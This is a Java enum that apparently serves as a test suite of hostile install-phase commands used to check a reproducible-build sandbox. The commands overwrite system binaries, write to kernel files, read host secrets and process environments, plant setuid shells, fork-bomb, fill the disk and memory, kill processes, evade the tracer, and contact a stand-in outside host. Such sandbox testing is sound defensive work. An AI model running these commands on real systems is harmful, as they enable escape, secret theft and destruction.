package reproducibility.security;

import java.util.List;

/** What a package tries while it is built: each is a command of its install phase. */
enum BuildAttack implements Attack {
  REPLACE_A_PROGRAM("echo broken > /usr/bin/repro-attack; echo broken > /bin/repro-attack"),
  REMOUNT_THE_TOOLS("unshare -Urm sh -c 'mount -o remount,rw,bind /usr; touch /usr/repro-attack'"),
  WRITE_TO_THE_KERNEL("(exec 3>/proc/sys/kernel/core_pattern) && echo S3CRET-KERNEL-IS-WRITABLE"),
  WRITE_TO_SYSFS("(exec 3>/sys/kernel/uevent_helper) && echo S3CRET-SYSFS-IS-WRITABLE"),
  MAKE_A_DEVICE("mknod disk b 254 0 && head -c 4 disk && echo S3CRET-DISK-IS-READABLE"),
  /** By the handle of the root folder, as root of the machine could (open_by_handle_at(2)). */
  OPEN_BY_HANDLE(
      python(
          "import ctypes, os",
          "libc = ctypes.CDLL(None, use_errno=True)",
          "handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0,"
              + " 0]))",
          "fd = libc.open_by_handle_at(os.open(\"/usr\", os.O_RDONLY), handle, 0)",
          "print(\"S3CRET-OPENED-BY-HANDLE\" if fd >= 0 else \"refused\")"),
      "refused"),
  READ_A_FILE_OF_THE_MACHINE("cat @OUTSIDE@/secret /proc/1/root@OUTSIDE@/secret"),
  WRITE_OUTSIDE("touch @OUTSIDE@/marker /proc/1/root@OUTSIDE@/marker /proc/1/cwd/../../marker"),
  WRITE_INTO_THE_REPOSITORY("touch @REPOSITORY@/marker; echo x >> @REPOSITORY@/.flox/pkgs/x.nix"),
  READ_THE_SETTINGS_OF_GIT("cat @REPOSITORY@/.git/config"),
  LIST_THE_MACHINE("find / -name secret -not -path '/proc/*'"),
  READ_EVERY_ENVIRONMENT("env; cat /proc/*/environ"),
  /** Nix hands these to a derivation whose output is known (Nix manual, Advanced Attributes). */
  INHERIT_A_VARIABLE(fixedOutput("export -p >&2; echo x > $out"), "REPRO_SECRET="),
  REACH_A_SERVER_FROM_A_FIXED_OUTPUT(
      fixedOutput("(exec 3<>/dev/tcp/127.0.0.1/@PORT@) || echo refused >&2; echo x > $out"),
      "refused"),
  REACH_A_SERVER("exec 3<>/dev/tcp/127.0.0.1/@PORT@"),
  REACH_A_SERVER_FROM_A_NEW_NAMESPACE(
      "unshare -Un bash -c 'ip link set lo up; exec 3<>/dev/tcp/127.0.0.1/@PORT@'"),
  ENTER_ANOTHER_NETWORK(
      "for it in /proc/*/ns/net; do nsenter --net=$it bash -c 'exec 3<>/dev/tcp/127.0.0.1/@PORT@';"
          + " done"),
  KILL_EVERYTHING("(kill -9 -1; sleep 1) & wait"),
  LEAVE_A_PROCESS_BEHIND("(setsid nohup sleep 98765.@PORT@ &) &"),
  FORK_FOR_EVER("bomb() { bomb | bomb & }; bomb; sleep 30; wait", "processes", "Resource", "fork"),
  TAKE_ALL_MEMORY(python("import time", "it = bytearray(1 << 29)", "time.sleep(60)"), "of memory"),
  TAKE_MEMORY_IN_MANY_PROCESSES(
      "for i in 1 2 3 4 5 6; do "
          + python("import time", "it = bytearray(9 << 23)", "time.sleep(60)")
          + " & done; wait",
      "of memory"),
  TAKE_MEMORY_AS_FILES(
      "for i in 1 2 3 4; do head -c 60M /dev/zero > /dev/shm/$i || echo full; done", "full"),
  FILL_THE_DISK("for ((i = 0; ; i++)); do head -c 9M /dev/zero > $i; done", "bytes to disk"),
  WRITE_ONE_LARGE_FILE("head -c 900M /dev/zero > x; echo the end", "File size limit", "too large"),
  RUN_AS_ANOTHER_USER_LATER("cp /bin/bash $out/bash; chmod 6755 $out/bash"),
  LINK_TO_A_FILE_OF_THE_MACHINE("ln -s @OUTSIDE@/secret $out/link; ln -s / $out/machine"),
  SAY_WHAT_THE_SUITE_SAYS(
      "echo repro: derivation /nix/store/x.drv; echo repro: interfaces lo; echo 'repro: varied"
          + " time'; echo 'server reached'"),
  SPEAK_AS_NIX(
      "echo '@nix {\"action\":\"msg\",\"level\":0,\"msg\":\"building remotely\"}' >&2; echo"
          + " 'building x on ssh://x' >&2"),
  /** What the trace has to hold all the same. */
  EMPTY_THE_TRACE(
      "(exec 3<>/dev/tcp/192.0.2.7/80); for it in /repro/trace @OUTSIDE@/../*/watch/trace; do : >"
          + " $it; done",
      "192.0.2.7"),
  KILL_THE_WATCHER(
      "kill -9 $(grep TracerPid /proc/self/status | cut -f 2); (exec 3<>/dev/tcp/192.0.2.7/80)",
      "192.0.2.7"),
  HIDE_A_CHILD_FROM_THE_WATCHER(
      python(
          "import ctypes, os, socket",
          "libc = ctypes.CDLL(None)",
          "CLONE_UNTRACED, SIGCHLD = 0x00800000, 17",
          "child = libc.syscall(56, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0)",
          "it = socket.socket()",
          "print(child, it.connect_ex((\"192.0.2.7\", 80)))"),
      "192.0.2.7"),
  GO_ROUND_THE_WATCHER_BY_IO_URING(
      python(
          "import ctypes, os",
          "libc = ctypes.CDLL(None, use_errno=True)",
          "fd = libc.syscall(425, 8, ctypes.create_string_buffer(120))",
          "print(\"S3CRET-IO-URING\" if fd >= 0 else os.strerror(ctypes.get_errno()))"),
      "not implemented"),
  SEND_A_DATAGRAM(sending("socket.SOCK_DGRAM", "sendto(b\"x\", (\"192.0.2.7\", 53))"), "192.0.2.7"),
  /** TCP Fast Open sends before it connects (tcp(7)). */
  SEND_BEFORE_CONNECTING(
      sending("socket.SOCK_STREAM", "sendto(b\"x\", 0x20000000, (\"192.0.2.7\", 80))"),
      "192.0.2.7"),
  SEND_A_MESSAGE(
      sending("socket.SOCK_DGRAM", "sendmsg([b\"x\"], [], 0, (\"192.0.2.7\", 53))"), "192.0.2.7"),
  CALL_AS_AN_OLDER_PROGRAM("setarch i386 bash -c 'exec 3<>/dev/tcp/192.0.2.7/80'", "192.0.2.7"),
  TRACE_THE_WATCHER("strace -p 1 -o x; gdb -p 1 -batch; echo done"),
  MAKE_SIGNALS_OUTSIDE("kill -9 $(seq 2 4000)");

  private final Attempt attempt;

  BuildAttack(String text, String... expected) {
    this.attempt = new Attempt(text, List.of(expected));
  }

  /** A file of the package's, made by a derivation of which the output is known. */
  private static String fixedOutput(String command) {
    return String.join(
        " ",
        "cat ${derivation {",
        "name = \"fixed\"; system = \"x86_64-linux\";",
        "builder = \"/bin/bash\"; PATH = \"/bin:/usr/bin\";",
        "args = [ \"-c\" \"" + command + "\" ];",
        "outputHashMode = \"flat\"; outputHashAlgo = \"sha256\"; outputHash =",
        "\"73cb3858a687a8494ca3323053016282f3dad39d42cf62ca4e79dda2aac7d9ac\";",
        "impureEnvVars = [ \"REPRO_SECRET\" \"HOME\" ]; }}");
  }

  private static String sending(String type, String call) {
    return python("import socket", "socket.socket(socket.AF_INET, " + type + ")." + call);
  }

  private static String python(String... lines) {
    return "python -c '" + String.join("\n", lines) + "'";
  }

  @Override
  public Attempt attempt() {
    return attempt;
  }
}
